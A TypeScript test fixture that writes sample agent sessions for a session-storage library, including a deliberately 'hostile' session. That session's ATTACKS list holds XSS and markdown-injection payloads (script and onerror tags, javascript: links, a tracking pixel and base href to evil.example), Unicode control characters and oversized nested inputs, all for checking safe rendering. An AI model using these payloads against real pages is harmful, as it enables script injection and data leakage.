import {
  assistantMessage,
  type EntryDraft,
  SessionManager,
  type SessionStore,
  toolCall,
  userMessage,
} from "@thulp-sessions/core";

/** Ids by name. */
export interface Samples {
  readonly build: string;
  readonly evaluation: string;
  readonly hostile: string;
  readonly empty: string;
}

/** Some sessions as agents write them. */
export async function writeSamples(store: SessionStore): Promise<Samples> {
  const manager = new SessionManager(store);
  const empty = await manager.createSession("Nothing yet", { type: "conversation", purpose: "try" });
  const evaluation = await manager.createSession(
    "Nightly evaluation",
    { type: "evaluation", skillName: "parse", testCases: 2 },
    { tags: ["eval", "nightly"], status: "completed" },
  );
  await manager.addEntries(evaluation.metadata.id, [
    {
      entryType: { type: "skill_execution", skillName: "parse", success: true },
      content: { title: "a", answer: "a", expected: "a" },
    },
    {
      entryType: { type: "skill_execution", skillName: "parse", success: false },
      content: { title: "b", answer: "x", expected: "b" },
    },
    {
      entryType: { type: "evaluation_result", score: 0.5, metrics: { passed: 1, failed: 1 } },
      content: null,
    },
  ]);
  const hostile = await writeHostile(manager);
  const build = await manager.createSession(
    "Fix the build",
    { type: "agent", agentName: "builder" },
    { tags: ["ci"] },
  );
  await manager.addEntries(build.metadata.id, conversation());
  return {
    build: build.metadata.id,
    evaluation: evaluation.metadata.id,
    hostile,
    empty: empty.metadata.id,
  };
}

function conversation(): EntryDraft[] {
  return [
    userMessage("The build is red. Please fix **it**."),
    toolCall("Read", true, { file_path: "src/parse.ts" }),
    toolCall("run_tests", false, { command: "npm test", output: "parse.test.ts expects a number" }),
    toolCall("Edit", true, { file_path: "src/parse.ts", old: "string", new: "number" }),
    assistantMessage(
      "One test fails: `parse.test.ts` expects a number.\n\n- look\n- fix\n\n```ts\nlet a = 1;\n```",
    ),
    userMessage("Good."),
    assistantMessage("Done."),
  ];
}

const ATTACKS = [
  "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>",
  "![tracking](https://evil.example/pixel.png?secret)",
  "[click](javascript:alert(4)) [data](data:text/html,<script>alert(5)</script>) <https://evil.example/>",
  '<iframe srcdoc="<script>alert(6)</script>"></iframe><style>body{display:none}</style><base href="//evil.example">',
  "a\u202eb \u200b c \u001b[31mred\u001b[0m &#8238; &lt;b&gt;",
  `${"> ".repeat(5000)}deep`,
  `${"*_".repeat(2000)}${"[".repeat(3000)}`,
  `${"| a ".repeat(500)}|\n${"|---".repeat(500)}|`,
];

/** What should do nothing but be seen: in the name, the tags, the names of tools, the texts and the keys. */
async function writeHostile(manager: SessionManager): Promise<string> {
  const { metadata } = await manager.createSession(
    "<img src=x onerror=alert(7)>\u202eevil\u0007",
    { type: "agent", agentName: "<script>alert(8)</script>" },
    { tags: ["<b>tag</b>", "\u200b"], context: { "<i>key</i>": "<script>alert(9)</script>" } },
  );
  let nested: unknown = "deep";
  for (let i = 0; i < 115; i++) nested = { ["<u>"]: nested };
  await manager.addEntries(metadata.id, [
    ...ATTACKS.map((text) => userMessage(text)),
    ...ATTACKS.map((text) => toolCall(text.slice(0, 200), false, { output: text, command: text })),
    {
      entryType: { type: "system_event", event: "<img src=//evil.example/e.png>" },
      content: nested as never,
    },
    assistantMessage("x".repeat(3_000_000)),
    assistantMessage(`${"<b>".repeat(100_000)}`),
  ]);
  return metadata.id;
}
